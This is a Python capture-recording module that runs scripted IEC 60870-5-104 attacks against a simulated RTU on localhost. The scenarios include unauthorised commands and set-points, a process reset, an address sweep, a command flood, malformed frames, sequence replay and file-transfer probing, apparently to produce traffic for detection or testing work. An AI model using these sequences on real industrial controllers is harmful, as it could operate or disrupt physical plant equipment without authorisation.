"""Record IEC 60870-5-104 attack captures: the c104 RTU of :mod:`pcaps.record.iec104`
and a hostile or misbehaving controlling station.

Run from the repository root (as root: dumpcap needs capture rights)::

    python -m pcaps.record.iec104_attacks [--out-dir pcaps/iec104] [--only NAME ...]

The victim is the same c104 RTU (127.0.0.1:2404, common address 1), started
fresh for every capture. The *attacker* is an unknown host, 127.0.0.66: a c104
client behind the byte-for-byte `Relay` where c104 can send what the scenario
needs, else `RawClient`, which writes the APDUs itself after a real STARTDT
handshake (reset process, file transfer, replayed and malformed frames).
The *master* is the plant's own c104 client on 127.0.0.1, which misbehaves in
the flood. Every confirmation the attacker gets and every command the RTU
executes is checked.
"""

import logging
import time
from collections.abc import Callable, Sequence

import c104

from pcaps.record.iec104 import (
    ATTACKER,
    COMMAND_TIME,
    RawClient,
    Rtu,
    Scenario,
    asdu,
    byte32,
    cause_of,
    expect,
    master,
    run,
    type_of,
)

log = logging.getLogger("pcaps.record.iec104_attacks")

ACT = 6
ACTCON = 7
ACTTERM = 10
REQ = 5
FILE = 13
NEGATIVE = 0x40
FLOOD_COMMANDS = 100
SWEEP_ADDRESSES = range(1, 21)


def scenario_unauthorised_commands(unit: Rtu) -> None:
    """Single command select-before-operate (IOA 1000), double command
    direct execute (1010), regulating step (1020), single command with time
    tag (1002): all confirmed and executed."""
    with master(source=ATTACKER, originator=0, points=[1000, 1010, 1020, 1002]) as m:
        m.command(1000, c104.SingleCmd(on=True))
        m.command(1010, c104.DoubleCmd(state=c104.Double.ON))
        m.command(1020, c104.StepCmd(direction=c104.Step.LOWER))
        m.command(1002, c104.SingleCmd(on=True, recorded_at=COMMAND_TIME))
    executed = [ioa for _kind, ioa, _value, _select in unit.commands]
    expect("executed", executed == [1000, 1010, 1020, 1002], unit.commands)


def scenario_setpoints(unit: Rtu) -> None:
    """Set-points normalised, scaled and floating point (the last selected
    before execution), with time tag, and a 32-bit bitstring command."""
    with master(source=ATTACKER, originator=0,
                points=[1030, 1040, 1050, 1051, 1060]) as m:
        m.command(1030, c104.NormalizedCmd(target=c104.NormalizedFloat(0.99)))
        m.command(1040, c104.ScaledCmd(target=c104.Int16(32000)))
        m.command(1050, c104.ShortCmd(target=999.5))
        m.command(1051, c104.ShortCmd(target=-500.0, recorded_at=COMMAND_TIME))
        m.command(1060, c104.BinaryCmd(blob=byte32(0xFFFFFFFF)))
    executed = [ioa for _kind, ioa, _value, select in unit.commands if not select]
    expect("executed", executed == [1030, 1040, 1050, 1051, 1060], unit.commands)


def scenario_reset_process(unit: Rtu) -> None:
    """C_RP_NA_1 with QRP 1 (general reset of process). c104 does not
    implement it: a negative confirmation, then cause 47 (unknown IOA)."""
    client = RawClient()
    client.startdt()
    client.send(client.i_frame(asdu(105, ACT, 0, b"\x01")))
    answers = client.receive(until=lambda f: type_of(f) == 105 and cause_of(f) == 47)
    causes = [cause_of(f) for f in answers if type_of(f) == 105]
    expect("reset process answers", causes == [ACTCON | NEGATIVE, 47], answers)
    client.close()


def scenario_interrogation_sweep(unit: Rtu) -> None:
    """General interrogation of common addresses 1..20, one after the other:
    only address 1 exists; the others get a negative confirmation and
    cause 46 (unknown common address)."""
    with master(source=ATTACKER, originator=0) as m:
        for ca in SWEEP_ADDRESSES:
            m.connection.interrogation(common_address=ca, wait_for_response=False)
            time.sleep(0.1)
    unknown = [ca for cause, _kind, ca in unit.unexpected if cause == "UNKNOWN_CA"]
    expect("unknown common addresses", unknown == list(SWEEP_ADDRESSES)[1:], unit.unexpected)


def scenario_command_flood(unit: Rtu) -> None:
    """The master sends 100 direct single commands to IOA 1001 back to back."""
    with master(points=[1001]) as m:
        for i in range(FLOOD_COMMANDS):
            m.command(1001, c104.SingleCmd(on=i % 2 == 0))
    expect("flood executed", len(unit.commands) == FLOOD_COMMANDS, len(unit.commands))


def _malformed_connection(label: str, build: Callable[[RawClient], bytes]) -> None:
    """One connection: STARTDT and a TESTFR exchange that work, the broken
    frame (built with the connection's own sequence numbers), then whatever
    the RTU does (lib60870 closes the connection on most)."""
    client = RawClient()
    client.startdt()
    client.send(TESTFR_ACT)
    client.receive(until=lambda f: f[2] == 0x83)
    frame = build(client)
    log.debug("%s: %s", label, frame.hex())
    client.send(frame)
    client.receive(timeout=0.5)
    client.close()


def _oversized(client: RawClient) -> bytes:
    """An interrogation padded to an APDU length of 255 (the standard's
    maximum is 253)."""
    frame = client.i_frame(asdu(100, ACT, 0, b"\x14") + bytes(241))
    return bytes((0x68, 0xFF)) + frame[2:]


TESTFR_ACT = bytes.fromhex("680443000000")
MALFORMED: tuple[tuple[str, Callable[[RawClient], bytes]], ...] = (
    ("junk before an APDU", lambda c: b"\x00\x11\x22" + TESTFR_ACT),
    ("APDU length 2", lambda c: bytes.fromhex("68020100") + TESTFR_ACT),
    ("APDU length 255", _oversized),
    ("U frame STARTDT act+con", lambda c: bytes.fromhex("68040f000000")),
    ("unknown type 200", lambda c: c.i_frame(asdu(200, ACT, 0, b"\x01"))),
    ("3 objects announced, 1 sent",
     lambda c: c.i_frame(asdu(50, ACT, 1050, b"\x00\x00\x80\x3f\x00", vsq=3))),
    ("cause 0", lambda c: c.i_frame(asdu(100, 0, 0, b"\x14"))),
)


def scenario_malformed(unit: Rtu) -> None:
    """Seven connections, each with one broken frame after a working TESTFR
    exchange: junk before an APDU, an APDU length of 2, an APDU length
    of 255, a U frame with two functions, an unknown type identification,
    fewer objects than the ASDU announces, and cause of transmission 0."""
    for label, build in MALFORMED:
        _malformed_connection(label, build)


def scenario_sequence_replay(unit: Rtu) -> None:
    """An interrogation with N(S) 0, then the same I frame again (N(S) 0):
    lib60870 sees the sequence error and closes the connection."""
    client = RawClient()
    client.startdt()
    frame = client.i_frame(asdu(100, ACT, 0, b"\x14"))
    client.send(frame)
    client.receive(until=lambda f: type_of(f) == 100 and cause_of(f) == ACTTERM)
    client.send(frame)
    client.receive(timeout=1.0)
    expect("RTU closed the connection", client.closed)
    client.close()


def scenario_file_transfer(unit: Rtu) -> None:
    """File transfer probing: call directory, select file 1, call file 1
    (F_SC_NA_1) and an ack (F_AF_NA_1). c104 has no file service: silence."""
    client = RawClient()
    client.startdt()
    for cause, ioa, element in (
        (REQ, 0, b"\x00\x00\x00\x00"),      # NOF 0, NOS 0, SCQ 0: call directory
        (FILE, 700, b"\x01\x00\x00\x01"),   # NOF 1, SCQ 1: select file
        (FILE, 700, b"\x01\x00\x00\x02"),   # SCQ 2: call file
    ):
        client.send(client.i_frame(asdu(122, cause, ioa, element)))
        client.receive(timeout=0.3)
    client.send(client.i_frame(asdu(124, FILE, 700, b"\x01\x00\x00\x01")))  # AFQ 1: ack file
    answers = client.receive(timeout=0.3)
    expect("no file service", not any(type_of(f) >= 120 for f in answers), answers)
    client.close()


SCENARIOS: tuple[Scenario, ...] = (
    Scenario("attack-unauthorised-commands", scenario_unauthorised_commands),
    Scenario("attack-setpoints", scenario_setpoints),
    Scenario("attack-reset-process", scenario_reset_process),
    Scenario("attack-interrogation-sweep", scenario_interrogation_sweep),
    Scenario("attack-command-flood", scenario_command_flood),
    Scenario("attack-malformed", scenario_malformed),
    Scenario("attack-sequence-replay", scenario_sequence_replay),
    Scenario("attack-file-transfer", scenario_file_transfer),
)


def main(argv: Sequence[str] | None = None) -> int:
    return run(argv, SCENARIOS, "python -m pcaps.record.iec104_attacks")


if __name__ == "__main__":
    raise SystemExit(main())
